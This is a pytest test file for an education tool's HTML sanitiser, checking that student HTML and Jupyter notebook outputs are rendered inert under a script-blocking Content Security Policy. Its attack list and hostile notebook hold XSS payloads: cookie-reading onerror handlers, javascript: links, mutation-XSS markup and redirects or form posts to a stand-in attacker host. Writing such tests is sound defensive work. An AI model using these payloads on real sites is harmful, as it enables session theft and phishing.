"""Student HTML is inert wherever coursekit renders it."""

from __future__ import annotations

import nbformat
import pytest
from bs4 import BeautifulSoup
from nbconvert import HTMLExporter

from coursekit.untrusted.html import CSP, add_csp, sanitize_fragment, sanitize_notebook

ATTACKS = [
    '<script>fetch("/hub/api/users")</script>',
    '<img src="x" onerror="alert(document.cookie)">',
    '<svg><script>alert(1)</script><circle onload="alert(2)"/></svg>',
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><input name="pw"></form>',
    '<object data="evil.swf"></object><embed src="evil.swf">',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
]


def active(html: str) -> list[str]:
    """Every piece of active or remote content left in ``html``."""
    soup = BeautifulSoup(html, "lxml")
    found = [t.name for t in soup.find_all(["script", "iframe", "object", "embed", "form", "base", "meta", "link", "svg"])]
    for tag in soup.find_all(True):
        for name, value in tag.attrs.items():
            text = " ".join(value) if isinstance(value, list) else str(value)
            if name.startswith("on") or name in ("style", "srcdoc", "formaction"):
                found.append(f"{tag.name}[{name}]")
            if name in ("href", "src", "action") and not text.startswith(("http:", "https:", "mailto:", "#", "data:image/")):
                found.append(f"{tag.name}[{name}={text[:30]}]")
    return found


@pytest.mark.parametrize("attack", ATTACKS)
def test_every_attack_fragment_is_made_inert(attack: str) -> None:
    assert active(sanitize_fragment(attack)) == []


def test_ordinary_feedback_markup_is_kept() -> None:
    html = ('<div class="coursekit-result"><p><strong>2 / 3 points</strong></p>'
            '<ul><li>gluteus maximus &amp; biceps femoris</li></ul>'
            '<table><tbody><tr><th scope="col">pose</th></tr><tr><td>wheel</td></tr></tbody></table>'
            '<img src="data:image/png;base64,iVBORw0KGgo=" alt="a plot"></div>')
    assert sanitize_fragment(html) == html


def hostile_notebook() -> nbformat.NotebookNode:
    nb = nbformat.v4.new_notebook()
    nb.cells = [
        nbformat.v4.new_markdown_cell("# Answer\n<img src=x onerror=alert(1)> <script>steal()</script>"),
        nbformat.v4.new_raw_cell('<script>alert("raw")</script>', metadata={"raw_mimetype": "text/html"}),
        nbformat.v4.new_code_cell("display(HTML(...))", outputs=[
            nbformat.v4.new_output("display_data", data={
                "text/html": '<b onmouseover="x()">bold</b><iframe srcdoc="<script>y()</script>"></iframe>',
                "text/plain": "<IPython.core.display.HTML object>"}),
            nbformat.v4.new_output("display_data", data={"application/javascript": "alert(1)", "text/plain": "js"}),
            nbformat.v4.new_output("display_data", data={"image/svg+xml": "<svg onload='alert(1)'/>"}),
            nbformat.v4.new_output("execute_result", execution_count=1, data={
                "text/markdown": "[x](javascript:alert(1)) <script>z()</script>", "text/plain": "md"}),
        ]),
    ]
    return nb


def test_a_sanitised_notebook_renders_to_html_with_nothing_active() -> None:
    page, _ = HTMLExporter(template_name="classic").from_notebook_node(sanitize_notebook(hostile_notebook()))
    body = BeautifulSoup(page, "lxml").body
    assert body is not None
    student_part = str(body)
    for marker in ("steal()", "alert(", "y()", "z()", "onerror", "onmouseover", "javascript:"):
        assert marker not in student_part, marker
    assert "bold" in student_part and "Answer" in student_part


def test_outputs_that_can_carry_code_are_dropped_and_plain_text_kept() -> None:
    outputs = sanitize_notebook(hostile_notebook()).cells[2].outputs
    mimes = [sorted(o["data"]) for o in outputs]
    assert mimes == [["text/html", "text/plain"], ["text/plain"], ["text/plain"], ["text/html", "text/plain"]]
    assert outputs[2]["data"]["text/plain"].startswith("[output removed")


def test_the_original_notebook_is_not_changed() -> None:
    nb = hostile_notebook()
    sanitize_notebook(nb)
    assert "<script>" in nb.cells[0].source


def test_the_policy_is_the_first_thing_in_the_head_and_forbids_scripts() -> None:
    page = add_csp('<!DOCTYPE html><html><head><script src="x.js"></script></head><body></body></html>')
    head = BeautifulSoup(page, "lxml").head
    assert head is not None
    first = head.find(True)
    assert first is not None and first.name == "meta" and first["content"] == CSP
    assert "script-src 'none'" in CSP and "default-src 'none'" in CSP
